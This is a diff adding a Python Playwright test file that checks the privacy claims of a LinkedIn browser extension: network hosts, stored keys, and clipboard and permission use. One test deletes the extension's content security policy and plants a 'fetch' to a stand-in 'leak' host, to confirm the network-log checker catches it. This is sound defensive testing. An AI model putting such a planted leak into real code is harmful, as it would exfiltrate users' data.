@@ -1,0 +1,181 @@
+"""What is entered stays here: while the extension is at work everywhere, nothing but LinkedIn's own page is asked for."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+from connect_etiquette.schema import published_schema
+from jsonschema import Draft202012Validator
+from playwright.sync_api import Playwright, expect
+
+from tests.browser.conftest import MONDAY
+from tests.support import chromium as driver
+from tests.unit.test_privacy import SETTINGS, STORED
+
+TOUCHED = """
+globalThis.__touched = [];
+if (typeof document === "object") {
+  const note = (what) => __touched.push([what, navigator.userActivation.isActive]);
+  for (const name of ["writeText", "write", "readText", "read"]) {
+    const real = navigator.clipboard?.[name];
+    if (real) navigator.clipboard[name] = (...given) => { note(`clipboard.${name}`); return real.apply(navigator.clipboard, given); };
+  }
+}
+if (globalThis.chrome?.permissions) {
+  const real = chrome.permissions.request;
+  chrome.permissions.request = (...given) => { __touched.push(["permissions.request", navigator.userActivation?.isActive]); return real(...given); };
+}
+"""
+"""Prelude for test copies: when the clipboard and permissions were touched, and whether the person had just clicked."""
+
+STRANGERS = ("Ben Okafor", "ben-okafor")
+"""Somebody whose Connect stands on the page, and who is not entered."""
+
+RAIL = (
+    '<aside><ul><li><a href="/in/ben-okafor/">Ben Okafor</a>'
+    '<a href="/preload/custom-invite/?vanityName=ben-okafor" aria-label="Invite Ben Okafor to connect">Connect</a></li></ul></aside>'
+)
+
+
+@contextmanager
+def recorded(
+    playwright: Playwright, built: Path, chromium: str, folder: Path, planted: str = ""
+) -> Iterator[tuple[driver.Extension, list[str], Path]]:
+    """A Chromium that writes its network log; the extension's worker says `planted` too, and may ask for anything then."""
+    log = folder / "network.json"
+    requests: list[str] = []
+    with driver.running(
+        playwright,
+        built / "chromium",
+        folder,
+        chromium,
+        MONDAY,
+        TOUCHED + planted,
+        more_arguments=(f"--log-net-log={log}",),
+    ) as extension:
+        extension.context.on("request", lambda request: requests.append(request.url))
+        yield extension, requests, log
+
+
+def use(extension: driver.Extension) -> dict[str, Any]:
+    """Everything that a person does in a week. Returns what is stored in the end."""
+    extension.choose()
+    extension.enter()
+    body = (driver.SHAPES / "sdui-profile-connect.en.html").read_text("utf-8").replace("</main>", f"{RAIL}</main>")
+    tab = extension.visit("/in/avery-stone-1a2b3c/", body)
+    tab.click(tab.wait_for_chip())
+    tab.tip()
+    tab.in_root("root.querySelector('details summary').click()")
+    tab.page.mouse.wheel(0, 400)
+    tab.settle()
+    for path in ("/feed/", "/mynetwork/grow/", "/search/results/people/", "/messaging/"):
+        extension.visit(path, f"<!doctype html><title>LinkedIn</title><main>{RAIL}</main>").settle()
+    for name in ("popup", "person", "options", "calendar", "welcome"):
+        extension.open(f"{name}.html").wait_for_timeout(300)
+    popup = extension.open("popup.html")
+    popup.locator("#selfcheck summary").click()
+    popup.wait_for_timeout(500)
+    assert tab.inside("__touched") == []
+    return extension.stored()
+
+
+BROWSERS_OWN = {"accounts.google.com", "update.googleapis.com"}
+"""What Chromium asks for by itself at its start, without any extension too, even with its background traffic off."""
+
+
+def hosts(log: Path) -> set[str]:
+    """The hosts of every request, connection and look-up in a network log of Chromium."""
+    # Two lines open the log and two close it, unless the browser was stopped; each between them is one event.
+    lines = [line.rstrip(",") for line in log.read_text("utf-8").splitlines() if line.startswith('{"params"')]
+    events = [json.loads(line) for line in lines]
+    assert len(events) > 10
+    found = set()
+    for event in events:
+        given = event.get("params", {})
+        for key in ("url", "host", "original_url"):
+            value = given.get(key)
+            if (
+                isinstance(value, str)
+                and value
+                and not value.startswith(("data:", "chrome", "about:", "blob:", "devtools:"))
+            ):
+                found.add(urlsplit(value if "//" in value else f"//{value}").hostname or "")
+    return found - {""} - BROWSERS_OWN
+
+
+def test_nothing_but_linkedins_page_is_asked_for(
+    playwright: Playwright, built: Path, chromium: str, tmp_path: Path
+) -> None:
+    with recorded(playwright, built, chromium, tmp_path) as (extension, requests, log):
+        use(extension)
+        own = {urlsplit(url).hostname for url in requests if urlsplit(url).scheme in ("http", "https")}
+    assert own == {"www.linkedin.com"}
+    assert hosts(log) <= {"www.linkedin.com"}
+
+
+def test_a_planted_request_is_seen(playwright: Playwright, built: Path, chromium: str, tmp_path: Path) -> None:
+    """The log would show a request: the policy that forbids it is what this copy of the extension lacks."""
+    loose = tmp_path / "loose"
+    shutil.copytree(built / "chromium", loose / "chromium")
+    manifest = loose / "chromium" / "manifest.json"
+    data = json.loads(manifest.read_text("utf-8"))
+    del data["content_security_policy"]
+    manifest.write_text(json.dumps(data), "utf-8")
+    plant = 'if (typeof importScripts === "function") fetch("https://planted.example/leak").catch(() => {});'
+    with recorded(playwright, loose, chromium, tmp_path, plant) as (extension, _, log):
+        extension.choose()
+    assert "planted.example" in hosts(log)
+
+
+def test_only_documented_keys_and_only_people_entered_are_stored(
+    playwright: Playwright, built: Path, chromium: str, tmp_path: Path
+) -> None:
+    with recorded(playwright, built, chromium, tmp_path) as (extension, _, _):
+        stored = use(extension)
+        page = extension.open("options.html")
+        elsewhere = page.evaluate(
+            "async () => ({ sync: await chrome.storage.sync?.get(null) ?? {}, session: await chrome.storage.session?.get(null) ?? {},"
+            " local: { ...localStorage }, tab: { ...sessionStorage }, databases: await indexedDB.databases(), caches: await caches.keys(), cookies: document.cookie })"
+        )
+    assert set(stored) <= set(STORED)
+    assert set(stored["settings"]) <= set(SETTINGS)
+    file = {"kind": "connect-etiquette", "exported": "2026-03-09T08:00Z", **stored["records"]}
+    assert [error.message for error in Draft202012Validator(published_schema("records")).iter_errors(file)] == []
+    assert [person["name"] for person in stored["records"]["people"].values()] == ["Avery Stone"]
+    for stranger in STRANGERS:
+        assert stranger not in json.dumps(stored, ensure_ascii=False)
+    assert "linkedin.com" not in json.dumps(stored)
+    assert not any(elsewhere.values()), elsewhere
+
+
+def test_the_clipboard_and_permissions_are_touched_by_a_click_only(
+    playwright: Playwright, built: Path, chromium: str, tmp_path: Path
+) -> None:
+    with recorded(playwright, built, chromium, tmp_path) as (extension, _, _):
+        extension.context.grant_permissions(["clipboard-read", "clipboard-write"])
+        use(extension)
+        for name in ("popup", "options", "calendar", "welcome"):
+            assert extension.open(f"{name}.html").evaluate("__touched") == []
+        popup = extension.open("popup.html")
+        page = next(page for page in extension.context.pages if "/in/avery-stone-1a2b3c/" in page.url)
+        page.bring_to_front()  # The page “under” the popup.
+        popup.locator("#selfcheck summary").click()
+        report = popup.locator("#selfcheck button")
+        expect(report).to_be_visible()
+        assert popup.evaluate("__touched") == []
+        report.click()
+        assert popup.evaluate("__touched") == [["clipboard.writeText", True]]
+
+
+def test_options_shows_the_statement(extension: driver.Extension) -> None:
+    page = extension.open("options.html")
+    shown = page.locator("#privacy").inner_text()
+    statement = (Path(__file__).parents[3] / "PRIVACY.md").read_text("utf-8").replace("**", "")
+    lines = [line.lstrip("#- ") for line in statement.splitlines() if line]
+    assert [line.strip() for line in shown.splitlines() if line.strip()] == lines
